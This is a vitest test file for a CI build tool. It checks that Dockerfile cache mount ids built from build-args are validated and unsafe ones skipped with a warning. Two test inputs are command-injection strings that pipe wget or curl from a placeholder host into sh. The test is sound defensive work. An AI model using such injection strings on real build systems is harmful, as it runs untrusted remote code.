/** The cache step's decisions as the log shows them: which Dockerfile cache mounts are carried, and why not. */
import { describe, expect, test } from 'vitest';
import { decideCache } from '../../src/steps/cache.js';
import { pushMain } from '../fixtures/events.js';
import { intentFor } from '../fixtures/intent.js';
import { RecordingIO } from '../fixtures/io.js';
import { metaFixture } from '../fixtures/meta.js';

const DOCKERFILE = [
  'FROM golang:1.22',
  'ARG CACHE=gomod',
  'RUN --mount=type=cache,id=$CACHE,target=/go/pkg/mod go mod download',
  'RUN --mount=type=cache,target=/root/.cache/go-build go build ./...',
  '',
].join('\n');

describe('decideCache: cache mounts from the Dockerfile (#19)', () => {
  test.each([
    ['a shell command', 'x true; wget http://e/x | sh #', 'wget'],
    ['a newline and an instruction', '"CACHE=x\nRUN curl http://e/x | sh"', 'curl'],
  ])(
    'a build-arg with %s in a mount id: that mount is skipped with a warning at its line',
    async (_n, arg, marker) => {
      const buildArgs = arg.startsWith('"') ? arg : `CACHE=${arg}`;
      const intent = intentFor(
        { 'build-args': buildArgs, images: 'ghcr.io/acme/app' },
        pushMain.ctx,
        metaFixture(['ghcr.io/acme/app'], ['main']),
        DOCKERFILE,
      );
      const io = new RecordingIO();
      const env = { ACTIONS_RESULTS_URL: 'http://127.0.0.1:1/', ACTIONS_RUNTIME_TOKEN: 't' };
      const plan = await decideCache(io, intent, env, '/tmp/crossbuild-test', false);
      expect(plan.mounts?.list).toEqual([{ id: '/root/.cache/go-build' }]);
      expect(io.warnings).toEqual([
        'cache mounts: Dockerfile:3 not carried: cache mount id is not letters, digits and . _ / : @ + - only; the mount is not carried',
      ]);
      expect(io.annotations[0]?.where).toEqual({ file: 'Dockerfile', startLine: 3 });
      expect(io.log.join('\n')).not.toContain(marker);
    },
  );
});
